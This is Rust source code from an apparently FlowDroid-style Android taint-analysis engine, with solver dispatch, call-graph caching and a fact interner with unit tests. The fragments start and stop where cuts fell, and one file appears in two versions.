    pub fn run_demand(&self, program: &mut Program, entry_points: &[MethodId]) -> InfoflowResults {
        if program.has_pending_bodies() {
            let hierarchy = Hierarchy::build(program);
            materialize_reachable(program, &hierarchy, entry_points);
        }
        self.run(program, entry_points)
    }

    /// Dispatches on the configured engine: the parallel work-stealing
    /// engine when `taint_threads > 0`, else the sequential solver —
    /// each with the configured fact-key and table representation
    /// (`intern_facts` × `bitset_tables`; bitset rows need id keys, so
    /// non-interned runs always use hash-map tables).
    fn solve_with_domain(
        &self,
        icfg: Icfg<'_>,
        sources: &SourceSinkManager,
        entry_points: &[MethodId],
    ) -> InfoflowResults {
        let c = self.config;
        if c.taint_threads > 0 {
            if c.intern_facts && c.bitset_tables {
                let dom = SharedInternedKeys::new(c.max_access_path_length);
                ParBiSolver::new(icfg, sources, self.wrapper, c, c.taint_threads, dom)
                    .solve(entry_points)
            } else {
                ParBiSolver::new(
                    icfg,
                    sources,
                    self.wrapper,
                    c,
                    c.taint_threads,
                    flowdroid_ifds::IdentityKeys,
                )
                .solve(entry_points)
            }
        } else if c.intern_facts && c.bitset_tables {
            BiSolver::<InternedDomain>::new(icfg, sources, self.wrapper, c).solve(entry_points)
        } else if c.intern_facts {
            BiSolver::<InternedHashDomain>::new(icfg, sources, self.wrapper, c).solve(entry_points)
        } else {
            BiSolver::<DirectDomain>::new(icfg, sources, self.wrapper, c).solve(entry_points)
        }
    }

    /// Runs the full Android pipeline on an already-loaded [`App`]
    /// (paper Figure 4, after parsing): entry-point model → dummy main
    /// → call graph → taint analysis. UI password fields from the app's
    /// layouts are registered as sources automatically.
    ///
    /// `tag` uniquifies the generated dummy-main class.
    pub fn analyze_app(
        &self,
        program: &mut Program,
        platform: &PlatformInfo,
        app: &App,
        tag: &str,
    ) -> AppAnalysis {
        let sources_owned = self.app_sources(app);
        let sources: &SourceSinkManager = sources_owned.as_ref().unwrap_or(self.sources);
        let model =
            EntryPointModel::build(program, platform, app, self.config.callback_association);
        let dummy_main = generate_dummy_main(program, platform, &model, tag);
        // Lazily loaded apps: decode any remaining bodies the dummy main
        // can reach (the model-building pass above already materialized
        // per-component slices; this picks up static initializers and
        // the dummy-main glue). No-op on eager programs.
        if program.has_pending_bodies() {
            let hierarchy = Hierarchy::build(program);
            materialize_reachable(program, &hierarchy, &[dummy_main]);
        }
        let cg = CallGraph::build(program, &[dummy_main], self.config.cg_algorithm);
        let icfg = Icfg::new(program, &cg);
        let results = self.solve_with_domain(icfg, sources, &[dummy_main]);
        AppAnalysis { dummy_main, model, results }
    }

    /// Like [`Infoflow::analyze_app`], but consults (and fills) a
    /// [`CgCache`]: on a hit the component-discovery fixpoint, reachable
    /// closure and callgraph construction are all skipped — the cached
    /// materialization log is replayed through
    /// [`Program::ensure_body`], which reproduces the cold path's arena
    /// state exactly (decoding is deterministic and ids are minted in
    /// replay order), and the cached callgraph is reused as-is. Returns
    /// the analysis plus whether the cache hit.
    ///
    /// `key` names the app (the daemon uses the job name) and
    /// `fingerprint` must cover the app bytes *and* the platform
    /// snapshot (see [`CgCache`]); a mismatch invalidates the entry and
    /// runs the cold path.
    #[allow(clippy::too_many_arguments)]
    pub fn analyze_app_cached(
        &self,
        program: &mut Program,
        platform: &PlatformInfo,
        app: &App,
        tag: &str,
        cache: &CgCache,
        key: &str,
        fingerprint: u64,
    ) -> (AppAnalysis, bool) {
        let sources_owned = self.app_sources(app);
        let sources: &SourceSinkManager = sources_owned.as_ref().unwrap_or(self.sources);

        if let Some(setup) = cache.lookup(key, fingerprint) {
            let CachedSetup::App { model, pre_main, dummy_main: expected, post_main, cg } =
                &*setup
            else {
                panic!("cg-cache entry for `{key}` has the wrong shape");
            };
            for &m in pre_main {
                program.ensure_body(m);
            }
            let dummy_main = generate_dummy_main(program, platform, model, tag);
            assert_eq!(
                dummy_main, *expected,
                "cg-cache replay for `{key}` diverged from the cold path"
            );
            for &m in post_main {
                program.ensure_body(m);
            }
            let icfg = Icfg::new(program, cg);
            let results = self.solve_with_domain(icfg, sources, &[dummy_main]);
            return (AppAnalysis { dummy_main, model: model.clone(), results }, true);
        }

        let log_start = program.materialization_log().len();
        let model =
            EntryPointModel::build(program, platform, app, self.config.callback_association);
        let pre_main = program.materialization_log()[log_start..].to_vec();
        let dummy_main = generate_dummy_main(program, platform, &model, tag);
        let log_mid = program.materialization_log().len();
        if program.has_pending_bodies() {
            let hierarchy = Hierarchy::build(program);
            materialize_reachable(program, &hierarchy, &[dummy_main]);
        }
        let post_main = program.materialization_log()[log_mid..].to_vec();
        let cg = CallGraph::build(program, &[dummy_main], self.config.cg_algorithm);
        let setup = Arc::new(CachedSetup::App {
            model: model.clone(),
            pre_main,
            dummy_main,
            post_main,
            cg,
        });
        // Store before solving: the setup is valid even if the solver
        // aborts on a deadline, so the retry still gets a warm start.
        cache.insert(key, fingerprint, Arc::clone(&setup));
        let CachedSetup::App { cg, .. } = &*setup else { unreachable!() };
        let icfg = Icfg::new(program, cg);
        let results = self.solve_with_domain(icfg, sources, &[dummy_main]);
        (AppAnalysis { dummy_main, model, results }, false)
    }

    /// Like [`Infoflow::run_demand`], but consults (and fills) a
    /// [`CgCache`] keyed like [`Infoflow::analyze_app_cached`]. Used for
    /// non-Android jobs with explicit entry points (micro benchmarks).
    pub fn run_demand_cached(
        &self,
        program: &mut Program,
        entry_points: &[MethodId],
        cache: &CgCache,
        key: &str,
        fingerprint: u64,
    ) -> (InfoflowResults, bool) {
        if let Some(setup) = cache.lookup(key, fingerprint) {
            let CachedSetup::Entry { materialized, cg } = &*setup else {
                panic!("cg-cache entry for `{key}` has the wrong shape");
            };
            for &m in materialized {
                program.ensure_body(m);
            }
            let icfg = Icfg::new(program, cg);
            return (self.solve_with_domain(icfg, self.sources, entry_points), true);
        }

        let log_start = program.materialization_log().len();
        if program.has_pending_bodies() {
            let hierarchy = Hierarchy::build(program);
            materialize_reachable(program, &hierarchy, entry_points);
        }
        let materialized = program.materialization_log()[log_start..].to_vec();
        let cg = CallGraph::build(program, entry_points, self.config.cg_algorithm);
        let setup = Arc::new(CachedSetup::Entry { materialized, cg });
        cache.insert(key, fingerprint, Arc::clone(&setup));
        let CachedSetup::Entry { cg, .. } = &*setup else { unreachable!() };
        let icfg = Icfg::new(program, cg);
        (self.solve_with_domain(icfg, self.sources, entry_points), false)
    }

    /// UI password-field sources for `app` (paper §3: layout-declared
    /// password widgets are sources), or `None` when the configured
    /// source set already suffices.
    fn app_sources(&self, app: &App) -> Option<SourceSinkManager> {
        let mut password_ids = Vec::new();
        for layout in app.layouts.values() {
            for w in &layout.widgets {
                if w.is_password {
                    if let Some(name) = &w.id_name {
                        if let Some(id) = app.resources.widget_id(name) {
                            password_ids.push(id);
                        }
                    }
                }
            }
        }
        if password_ids.is_empty() {
            return None;
        }
        let mut s = self.sources.clone();
        for id in password_ids {
            s.add_password_id(id);
        }
        Some(s)
    }
}

/// The outcome of an app analysis: the entry-point model, the generated
/// dummy main and the taint-analysis results.
#[derive(Debug)]
pub struct AppAnalysis {
    /// The generated dummy-main method.
    pub dummy_main: MethodId,
    /// The entry-point model the dummy main was generated from.
    pub model: EntryPointModel,
    /// The taint-analysis results.
    pub results: InfoflowResults,
}
