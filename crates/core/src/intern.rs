//! Hash-consing of access paths and facts into dense `u32` ids.
//!
//! The solver's hot tables (path edges, end summaries, incoming sets,
//! predecessor links) are keyed on facts. A [`crate::taint::Fact`] owns
//! a heap-allocated field vector, so keying tables on it directly means
//! cloning and re-hashing nested structs millions of times per run.
//! The [`Interner`] maps each distinct [`AccessPath`] and [`Fact`] to a
//! `u32` id exactly once ([`ApId`], [`FactId`]); tables then key on
//! `Copy` ids, hashing a single word.
//!
//! Ids are assigned in **first-encounter order**: the same program
//! analyzed by the same (sequential) driver always produces the same id
//! assignment, which keeps downstream artifacts byte-for-byte
//! deterministic.
//!
//! The [`FactDomain`] trait abstracts the solver over the key choice:
//! [`InternedDomain`] (id keys, default) and [`DirectDomain`] (the
//! pre-interning behavior, keeping whole facts as keys) share all
//! transfer-function code, which is what lets the benchmark driver
//! compare the two modes on identical inputs.

use crate::access_path::AccessPath;
use crate::taint::{Fact, Taint};
use flowdroid_ifds::{BitsetSets, ConcurrentKeyDomain, FactSetDomain, HashSets};
use flowdroid_ir::{fxhash64, FieldId, FxHashMap, FxHashSet, StmtRef};
use std::fmt::Debug;
use std::hash::Hash;
use std::sync::{Arc, Mutex, OnceLock, RwLock};

// ================= field-sequence arena =================

/// Number of independently locked shards of the field-sequence arena
/// (power of two). Sharding keeps the arena usable from the parallel
/// taint workers without a single global lock.
const FIELD_SHARDS: usize = 16;

struct FieldArena {
    shards: Vec<Mutex<FxHashSet<&'static [FieldId]>>>,
}

fn field_arena() -> &'static FieldArena {
    static ARENA: OnceLock<FieldArena> = OnceLock::new();
    ARENA.get_or_init(|| FieldArena {
        shards: (0..FIELD_SHARDS).map(|_| Mutex::new(FxHashSet::default())).collect(),
    })
}

/// Interns a field sequence into the process-wide arena, returning a
/// stable `'static` slice. The same content always returns the same
/// slice (pointer-identical), so [`AccessPath`] values can hold
/// borrowed field chains and stay `Copy`.
///
/// Only the *first* encounter of a distinct sequence allocates (the
/// arena entry itself); every later intern of the same content is a
/// hash lookup borrowing the probe slice. The empty sequence is free.
/// Arena entries are deliberately leaked: they live for the process,
/// which is what makes the returned borrows `'static` — the set of
/// distinct bounded field sequences a run touches is small (reported as
/// `distinct_aps` in the solver stats).
pub fn intern_fields(fields: &[FieldId]) -> &'static [FieldId] {
    if fields.is_empty() {
        return &[];
    }
    let arena = field_arena();
    // Fx mixes the low bits last; take high bits for the shard index.
    let shard_idx =
        (fxhash64(&fields) as usize >> (64 - FIELD_SHARDS.trailing_zeros())) & (FIELD_SHARDS - 1);
    let mut shard = arena.shards[shard_idx].lock().unwrap();
    if let Some(&interned) = shard.get(fields) {
        return interned;
    }
    let leaked: &'static [FieldId] = Box::leak(fields.to_vec().into_boxed_slice());
    shard.insert(leaked);
    leaked
}

/// Number of distinct non-empty field sequences interned process-wide
/// (diagnostic; monotone over the process lifetime).
pub fn interned_field_seq_count() -> usize {
    field_arena().shards.iter().map(|s| s.lock().unwrap().len()).sum()
}

/// Id of an interned [`AccessPath`].
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug, PartialOrd, Ord)]
pub struct ApId(u32);

impl ApId {
    /// The raw index.
    pub fn index(self) -> usize {
        self.0 as usize
    }
}

/// Id of an interned [`Fact`]. Id 0 is always [`Fact::Zero`].
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug, PartialOrd, Ord)]
pub struct FactId(u32);

impl FactId {
    /// The id of [`Fact::Zero`].
    pub const ZERO: FactId = FactId(0);

    /// The raw index.
    pub fn index(self) -> usize {
        self.0 as usize
    }
}

/// Fact ids are dense indices, so the tabulators can store fact sets
/// as bitset rows (`flowdroid_bitset`) keyed by id.
impl flowdroid_bitset::Idx for FactId {
    fn index(self) -> usize {
        self.0 as usize
    }

    fn from_index(i: usize) -> Self {
        FactId(u32::try_from(i).expect("fact id overflow"))
    }
}

/// The compact, arena-internal form of a fact: the access path replaced
/// by its id. This is what the fact dedup table hashes, so interning a
/// fact whose path is already interned costs a single-word hash.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
enum FactRepr {
    Zero,
    T { ap: ApId, active: bool, activation: Option<StmtRef> },
}

/// Hash-consing arenas for access paths and facts.
///
/// The interner enforces the access-path length bound at the id
/// boundary: a fact whose path exceeds `max_ap_len` fields is
/// **widened** — collapsed onto the id of its truncated (and therefore
/// covering) `max_ap_len`-prefix. Normal fact construction already
/// truncates, so widening fires only on paths that bypass it (e.g.
/// summary-store entries recorded under a larger bound), but it is what
/// guarantees the dense fact universe stays bounded no matter where
/// facts come from.
#[derive(Debug)]
pub struct Interner {
    aps: Vec<AccessPath>,
    ap_ids: FxHashMap<AccessPath, ApId>,
    facts: Vec<FactRepr>,
    fact_ids: FxHashMap<FactRepr, FactId>,
    /// Access-path length bound applied at intern time.
    max_ap_len: usize,
    /// Intern calls that had to widen their access path.
    widened: u64,
}

impl Default for Interner {
    fn default() -> Self {
        Interner::new()
    }
}

impl Interner {
    /// Creates an unbounded interner with [`Fact::Zero`] pre-interned
    /// as id 0 (paths are stored as given).
    pub fn new() -> Self {
        Self::with_bound(usize::MAX)
    }

    /// Creates an interner that widens access paths longer than
    /// `max_ap_len` fields, with [`Fact::Zero`] pre-interned as id 0.
    pub fn with_bound(max_ap_len: usize) -> Self {
        let mut i = Interner {
            aps: Vec::new(),
            ap_ids: FxHashMap::default(),
            facts: Vec::new(),
            fact_ids: FxHashMap::default(),
            max_ap_len,
            widened: 0,
        };
        let zero = i.intern_repr(FactRepr::Zero);
        debug_assert_eq!(zero, FactId::ZERO);
        i
    }

    /// Interns an access path, returning its id (assigning the next id
    /// on first encounter).
    pub fn intern_ap(&mut self, ap: &AccessPath) -> ApId {
        if let Some(&id) = self.ap_ids.get(ap) {
            return id;
        }
        let id = ApId(u32::try_from(self.aps.len()).expect("access-path arena overflow"));
        self.aps.push(*ap);
        self.ap_ids.insert(*ap, id);
        id
    }

    /// The access path behind `id`.
    pub fn resolve_ap(&self, id: ApId) -> &AccessPath {
        &self.aps[id.index()]
    }

    fn intern_repr(&mut self, repr: FactRepr) -> FactId {
        if let Some(&id) = self.fact_ids.get(&repr) {
            return id;
        }
        let id = FactId(u32::try_from(self.facts.len()).expect("fact arena overflow"));
        self.facts.push(repr);
        self.fact_ids.insert(repr, id);
        id
    }

    /// Interns a fact, returning its id. A fact whose access path
    /// exceeds the length bound maps to the id of its widened form —
    /// distinct over-long extensions of one prefix share one id.
    pub fn intern_fact(&mut self, f: &Fact) -> FactId {
        let repr = match f {
            Fact::Zero => FactRepr::Zero,
            Fact::T(t) => {
                let ap = t.ap.widened(self.max_ap_len);
                if ap != t.ap {
                    self.widened += 1;
                }
                FactRepr::T { ap: self.intern_ap(&ap), active: t.active, activation: t.activation }
            }
        };
        self.intern_repr(repr)
    }

    /// The id of `f` if (the widened form of) `f` has been interned,
    /// without interning it. This is the read-only fast path of
    /// [`SharedInterner`].
    pub fn lookup_fact(&self, f: &Fact) -> Option<FactId> {
        let repr = match f {
            Fact::Zero => FactRepr::Zero,
            Fact::T(t) => {
                let ap = t.ap.widened(self.max_ap_len);
                FactRepr::T {
                    ap: *self.ap_ids.get(&ap)?,
                    active: t.active,
                    activation: t.activation,
                }
            }
        };
        self.fact_ids.get(&repr).copied()
    }

    /// Reconstructs the fact behind `id`. Since access paths hold
    /// arena-interned field slices, this is a plain `Copy` — no
    /// allocation.
    pub fn resolve_fact(&self, id: FactId) -> Fact {
        match self.facts[id.index()] {
            FactRepr::Zero => Fact::Zero,
            FactRepr::T { ap, active, activation } => Fact::T(Taint {
                ap: *self.resolve_ap(ap),
                active,
                activation,
            }),
        }
    }

    /// Number of distinct facts interned (including `Zero`).
    pub fn fact_count(&self) -> usize {
        self.facts.len()
    }

    /// Number of distinct access paths interned.
    pub fn ap_count(&self) -> usize {
        self.aps.len()
    }

    /// Number of intern calls whose access path was widened to the
    /// length bound.
    pub fn widened_count(&self) -> u64 {
        self.widened
    }
}

// ================= shared (parallel) interner =================

/// An [`Interner`] behind a read/write lock, shared by the parallel
/// taint workers.
///
/// Interning is read-mostly once the fact universe stabilizes: the
/// common case is a fact already interned, served by `lookup_fact`
/// under the read lock; only first encounters take the write lock.
/// Id *values* depend on which worker wins the first-encounter race,
/// but the *set* of interned facts is the order-independent closure of
/// flow-function outputs, so counts (and everything keyed back through
/// `resolve`) stay deterministic.
#[derive(Debug)]
pub struct SharedInterner {
    inner: RwLock<Interner>,
}

impl SharedInterner {
    /// Creates a shared interner widening paths longer than
    /// `max_ap_len` fields.
    pub fn with_bound(max_ap_len: usize) -> Self {
        SharedInterner { inner: RwLock::new(Interner::with_bound(max_ap_len)) }
    }

    /// Interns `f`, taking the write lock only on first encounter.
    pub fn intern(&self, f: &Fact) -> FactId {
        if let Some(id) = self.inner.read().unwrap().lookup_fact(f) {
            return id;
        }
        self.inner.write().unwrap().intern_fact(f)
    }

    /// Reconstructs the fact behind `id`.
    pub fn resolve(&self, id: FactId) -> Fact {
        self.inner.read().unwrap().resolve_fact(id)
    }

    /// `(distinct facts, distinct access paths)` interned so far.
    pub fn counts(&self) -> (usize, usize) {
        let i = self.inner.read().unwrap();
        (i.fact_count(), i.ap_count())
    }

    /// Number of intern calls that widened their access path.
    pub fn widened_count(&self) -> u64 {
        self.inner.read().unwrap().widened_count()
    }
}

/// Keys the concurrent tabulators on [`FactId`]s from a shared
/// interner, with bitset-backed tables ([`BitsetSets`]).
///
/// Cloning shares the interner, so the forward and backward tabulators
/// of one solve agree on ids.
#[derive(Clone, Debug)]
pub struct SharedInternedKeys {
    interner: Arc<SharedInterner>,
}

impl SharedInternedKeys {
    /// Creates a domain whose interner widens paths longer than
    /// `max_ap_len` fields.
    pub fn new(max_ap_len: usize) -> Self {
        SharedInternedKeys { interner: Arc::new(SharedInterner::with_bound(max_ap_len)) }
    }
}

impl ConcurrentKeyDomain<Fact> for SharedInternedKeys {
    type Key = FactId;
    type Sets = BitsetSets;

    fn key(&self, f: &Fact) -> FactId {
        self.interner.intern(f)
    }

    fn fact(&self, k: &FactId) -> Fact {
        self.interner.resolve(*k)
    }

    fn stats(&self) -> Option<(usize, usize)> {
        Some(self.interner.counts())
    }

    fn widened_count(&self) -> u64 {
        self.interner.widened_count()
    }
}

/// The solver's key choice: how facts are represented in its tables,
/// and which table layout those keys get.
///
/// `intern` is the only way keys are produced and `resolve` the only way
/// they are read back, so an implementation either hands facts through
/// unchanged ([`DirectDomain`]) or hash-conses them ([`InternedDomain`],
/// [`InternedHashDomain`]). `Sets` picks the tabulator's table
/// representation for the keys — bitset rows require dense id keys, so
/// the choice lives here rather than on the solver.
pub trait FactDomain {
    /// The table key type.
    type Key: Clone + Eq + Hash + Debug;
    /// Tabulation-table representation for the keys.
    type Sets: FactSetDomain<Self::Key>;

    /// Creates the domain; access paths longer than `max_ap_len` fields
    /// are widened at the key boundary (ignored by non-interning
    /// domains, whose keys carry the path verbatim).
    fn new(max_ap_len: usize) -> Self;
    /// Maps a fact to its key.
    fn intern(&mut self, f: &Fact) -> Self::Key;
    /// Maps a key back to its fact.
    fn resolve(&self, k: &Self::Key) -> Fact;
    /// The key of [`Fact::Zero`].
    fn zero(&self) -> Self::Key;
    /// Returns `true` if `k` is the key of [`Fact::Zero`].
    fn is_zero(&self, k: &Self::Key) -> bool;
    /// `(distinct facts, distinct access paths)` seen, when tracked.
    fn stats(&self) -> Option<(usize, usize)>;
    /// Intern calls that widened their access path (0 when the domain
    /// does not widen).
    fn widened_count(&self) -> u64 {
        0
    }
}

/// Keys tables on whole [`Fact`] values (the pre-interning behavior,
/// kept for the benchmark comparison).
#[derive(Debug, Default)]
pub struct DirectDomain;

impl FactDomain for DirectDomain {
    type Key = Fact;
    type Sets = HashSets;

    fn new(_max_ap_len: usize) -> Self {
        DirectDomain
    }

    fn intern(&mut self, f: &Fact) -> Fact {
        f.clone()
    }

    fn resolve(&self, k: &Fact) -> Fact {
        k.clone()
    }

    fn zero(&self) -> Fact {
        Fact::Zero
    }

    fn is_zero(&self, k: &Fact) -> bool {
        k.is_zero()
    }

    fn stats(&self) -> Option<(usize, usize)> {
        None
    }
}

/// Keys tables on [`FactId`]s via an [`Interner`], with bitset-backed
/// tables (the default).
#[derive(Debug)]
pub struct InternedDomain {
    interner: Interner,
}

impl FactDomain for InternedDomain {
    type Key = FactId;
    type Sets = BitsetSets;

    fn new(max_ap_len: usize) -> Self {
        InternedDomain { interner: Interner::with_bound(max_ap_len) }
    }

    fn intern(&mut self, f: &Fact) -> FactId {
        self.interner.intern_fact(f)
    }

    fn resolve(&self, k: &FactId) -> Fact {
        self.interner.resolve_fact(*k)
    }

    fn zero(&self) -> FactId {
        FactId::ZERO
    }

    fn is_zero(&self, k: &FactId) -> bool {
        *k == FactId::ZERO
    }

    fn stats(&self) -> Option<(usize, usize)> {
        Some((self.interner.fact_count(), self.interner.ap_count()))
    }

    fn widened_count(&self) -> u64 {
        self.interner.widened_count()
    }
}

/// [`FactId`] keys with the original hash-map tables — the
/// `bitset_tables = false` escape hatch, kept for one release so the
/// table representations can be compared on identical inputs.
#[derive(Debug)]
pub struct InternedHashDomain {
    interner: Interner,
}

impl FactDomain for InternedHashDomain {
    type Key = FactId;
    type Sets = HashSets;

    fn new(max_ap_len: usize) -> Self {
        InternedHashDomain { interner: Interner::with_bound(max_ap_len) }
    }

    fn intern(&mut self, f: &Fact) -> FactId {
        self.interner.intern_fact(f)
    }

    fn resolve(&self, k: &FactId) -> Fact {
        self.interner.resolve_fact(*k)
    }

    fn zero(&self) -> FactId {
        FactId::ZERO
    }

    fn is_zero(&self, k: &FactId) -> bool {
        *k == FactId::ZERO
    }

    fn stats(&self) -> Option<(usize, usize)> {
        Some((self.interner.fact_count(), self.interner.ap_count()))
    }

    fn widened_count(&self) -> u64 {
        self.interner.widened_count()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use flowdroid_ir::{FieldId, Local, MethodId};

    fn ap(l: u32, fields: &[usize]) -> AccessPath {
        let mut a = AccessPath::local(Local(l));
        for &f in fields {
            a = a.append(FieldId::from_index(f), 5);
        }
        a
    }

    #[test]
    fn ap_round_trip_and_dedup() {
        let mut i = Interner::new();
        let a = ap(0, &[1, 2]);
        let b = ap(0, &[1, 2]);
        let c = ap(0, &[2, 1]);
        let ia = i.intern_ap(&a);
        assert_eq!(i.intern_ap(&b), ia);
        assert_ne!(i.intern_ap(&c), ia);
        assert_eq!(i.resolve_ap(ia), &a);
        assert_eq!(i.ap_count(), 2);
    }

    #[test]
    fn zero_is_id_zero() {
        let mut i = Interner::new();
        assert_eq!(i.intern_fact(&Fact::Zero), FactId::ZERO);
        assert_eq!(i.resolve_fact(FactId::ZERO), Fact::Zero);
    }

    #[test]
    fn fact_round_trip_distinguishes_activation() {
        let mut i = Interner::new();
        let act = StmtRef::new(MethodId::from_index(0), 3);
        let active = Fact::T(Taint::active(ap(1, &[0])));
        let inactive = Fact::T(Taint::inactive(ap(1, &[0]), act));
        let ia = i.intern_fact(&active);
        let ii = i.intern_fact(&inactive);
        assert_ne!(ia, ii);
        assert_eq!(i.resolve_fact(ia), active);
        assert_eq!(i.resolve_fact(ii), inactive);
        // Same access path arena entry backs both facts.
        assert_eq!(i.ap_count(), 1);
    }

    #[test]
    fn first_encounter_order_is_dense() {
        let mut i = Interner::new();
        let ids: Vec<FactId> = (0..5)
            .map(|l| i.intern_fact(&Fact::T(Taint::active(ap(l, &[])))))
            .collect();
        let idx: Vec<usize> = ids.iter().map(|d| d.index()).collect();
        assert_eq!(idx, vec![1, 2, 3, 4, 5]);
    }

    #[test]
    fn domains_agree_on_zero() {
        let mut d = DirectDomain::new(5);
        let mut n = InternedDomain::new(5);
        let mut h = InternedHashDomain::new(5);
        let z1 = d.intern(&Fact::Zero);
        let z2 = n.intern(&Fact::Zero);
        let z3 = h.intern(&Fact::Zero);
        assert!(d.is_zero(&z1) && n.is_zero(&z2) && h.is_zero(&z3));
        assert_eq!(d.zero(), z1);
        assert_eq!(n.zero(), z2);
        assert_eq!(h.zero(), z3);
        assert!(d.stats().is_none());
        assert_eq!(n.stats(), Some((1, 0)));
        assert_eq!(h.stats(), Some((1, 0)));
    }

    /// Distinct over-long extensions of one prefix collapse onto the
    /// id of the truncated prefix.
    #[test]
    fn overlong_paths_widen_to_prefix_id() {
        use crate::access_path::ApBase;
        let mut i = Interner::with_bound(2);
        let base = ApBase::Local(Local(7));
        let fid = FieldId::from_index;
        // Build paths longer than the bound by hand (append truncates,
        // so go through raw parts like the summary store does).
        let long_a = AccessPath::from_raw_parts(base, &[fid(1), fid(2), fid(3)], false);
        let long_b = AccessPath::from_raw_parts(base, &[fid(1), fid(2), fid(9)], false);
        // The canonical widened form: the 2-prefix, marked truncated.
        let widened = AccessPath::from_raw_parts(base, &[fid(1), fid(2)], true);
        let ia = i.intern_fact(&Fact::T(Taint::active(long_a)));
        let ib = i.intern_fact(&Fact::T(Taint::active(long_b)));
        let iw = i.intern_fact(&Fact::T(Taint::active(widened)));
        assert_eq!(ia, ib);
        assert_eq!(ia, iw);
        assert_eq!(i.widened_count(), 2);
        // The widened fact resolves to the truncated prefix.
        match i.resolve_fact(ia) {
            Fact::T(t) => {
                assert_eq!(t.ap.fields(), &[fid(1), fid(2)]);
                assert!(t.ap.is_truncated());
            }
            Fact::Zero => panic!("widened fact resolved to zero"),
        }
    }

    /// `lookup_fact` agrees with `intern_fact` without mutating.
    #[test]
    fn lookup_matches_intern() {
        let mut i = Interner::with_bound(3);
        let f = Fact::T(Taint::active(ap(2, &[4])));
        assert_eq!(i.lookup_fact(&f), None);
        let id = i.intern_fact(&f);
        assert_eq!(i.lookup_fact(&f), Some(id));
        assert_eq!(i.lookup_fact(&Fact::Zero), Some(FactId::ZERO));
    }

    /// The shared interner agrees with itself across threads: every
    /// thread's id for a fact resolves back to that fact.
    #[test]
    fn shared_interner_round_trips_across_threads() {
        let s = SharedInterner::with_bound(5);
        std::thread::scope(|scope| {
            for _ in 0..4 {
                let s = &s;
                scope.spawn(move || {
                    for l in 0..50u32 {
                        let f = Fact::T(Taint::active(ap(l, &[(l % 3) as usize])));
                        let id = s.intern(&f);
                        assert_eq!(s.resolve(id), f);
                    }
                });
            }
        });
        // 50 distinct facts + zero, regardless of interleaving.
        assert_eq!(s.counts().0, 51);
        assert_eq!(s.widened_count(), 0);
    }
}
