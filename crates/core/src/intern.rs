//! Hash-consing of access paths and facts into dense `u32` ids.
//!
//! The solver's hot tables (path edges, end summaries, incoming sets,
//! predecessor links) are keyed on facts. A [`crate::taint::Fact`] owns
//! a heap-allocated field vector, so keying tables on it directly means
//! cloning and re-hashing nested structs millions of times per run.
//! The [`Interner`] maps each distinct [`AccessPath`] and [`Fact`] to a
//! `u32` id exactly once ([`ApId`], [`FactId`]); tables then key on
//! `Copy` ids, hashing a single word.
//!
//! Ids are assigned in **first-encounter order**: the same program
//! analyzed by the same (sequential) driver always produces the same id
//! assignment, which keeps downstream artifacts byte-for-byte
//! deterministic.
//!
//! The [`FactDomain`] trait abstracts the solver over the key choice:
//! [`InternedDomain`] (id keys, default) and [`DirectDomain`] (the
//! pre-interning behavior, keeping whole facts as keys) share all
//! transfer-function code, which is what lets the benchmark driver
//! compare the two modes on identical inputs.

use crate::access_path::AccessPath;
use crate::taint::{Fact, Taint};
use flowdroid_ir::{fxhash64, FieldId, FxHashMap, FxHashSet, StmtRef};
use std::fmt::Debug;
use std::hash::Hash;
use std::sync::{Mutex, OnceLock};

// ================= field-sequence arena =================

/// Number of independently locked shards of the field-sequence arena
/// (power of two). Sharding keeps the arena usable from the parallel
/// taint workers without a single global lock.
const FIELD_SHARDS: usize = 16;

struct FieldArena {
    shards: Vec<Mutex<FxHashSet<&'static [FieldId]>>>,
}

fn field_arena() -> &'static FieldArena {
    static ARENA: OnceLock<FieldArena> = OnceLock::new();
    ARENA.get_or_init(|| FieldArena {
        shards: (0..FIELD_SHARDS).map(|_| Mutex::new(FxHashSet::default())).collect(),
    })
}

/// Interns a field sequence into the process-wide arena, returning a
/// stable `'static` slice. The same content always returns the same
/// slice (pointer-identical), so [`AccessPath`] values can hold
/// borrowed field chains and stay `Copy`.
///
/// Only the *first* encounter of a distinct sequence allocates (the
/// arena entry itself); every later intern of the same content is a
/// hash lookup borrowing the probe slice. The empty sequence is free.
/// Arena entries are deliberately leaked: they live for the process,
/// which is what makes the returned borrows `'static` — the set of
/// distinct bounded field sequences a run touches is small (reported as
/// `distinct_aps` in the solver stats).
pub fn intern_fields(fields: &[FieldId]) -> &'static [FieldId] {
    if fields.is_empty() {
        return &[];
    }
    let arena = field_arena();
    // Fx mixes the low bits last; take high bits for the shard index.
    let shard_idx =
        (fxhash64(&fields) as usize >> (64 - FIELD_SHARDS.trailing_zeros())) & (FIELD_SHARDS - 1);
    let mut shard = arena.shards[shard_idx].lock().unwrap();
    if let Some(&interned) = shard.get(fields) {
        return interned;
    }
    let leaked: &'static [FieldId] = Box::leak(fields.to_vec().into_boxed_slice());
    shard.insert(leaked);
    leaked
}

/// Number of distinct non-empty field sequences interned process-wide
/// (diagnostic; monotone over the process lifetime).
pub fn interned_field_seq_count() -> usize {
    field_arena().shards.iter().map(|s| s.lock().unwrap().len()).sum()
}

/// Id of an interned [`AccessPath`].
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug, PartialOrd, Ord)]
pub struct ApId(u32);

impl ApId {
    /// The raw index.
    pub fn index(self) -> usize {
        self.0 as usize
    }
}

/// Id of an interned [`Fact`]. Id 0 is always [`Fact::Zero`].
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug, PartialOrd, Ord)]
pub struct FactId(u32);

impl FactId {
    /// The id of [`Fact::Zero`].
    pub const ZERO: FactId = FactId(0);

    /// The raw index.
    pub fn index(self) -> usize {
        self.0 as usize
    }
}

/// The compact, arena-internal form of a fact: the access path replaced
/// by its id. This is what the fact dedup table hashes, so interning a
/// fact whose path is already interned costs a single-word hash.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
enum FactRepr {
    Zero,
    T { ap: ApId, active: bool, activation: Option<StmtRef> },
}

/// Hash-consing arenas for access paths and facts.
#[derive(Debug, Default)]
pub struct Interner {
    aps: Vec<AccessPath>,
    ap_ids: FxHashMap<AccessPath, ApId>,
    facts: Vec<FactRepr>,
    fact_ids: FxHashMap<FactRepr, FactId>,
}

impl Interner {
    /// Creates an interner with [`Fact::Zero`] pre-interned as id 0.
    pub fn new() -> Self {
        let mut i = Interner::default();
        let zero = i.intern_repr(FactRepr::Zero);
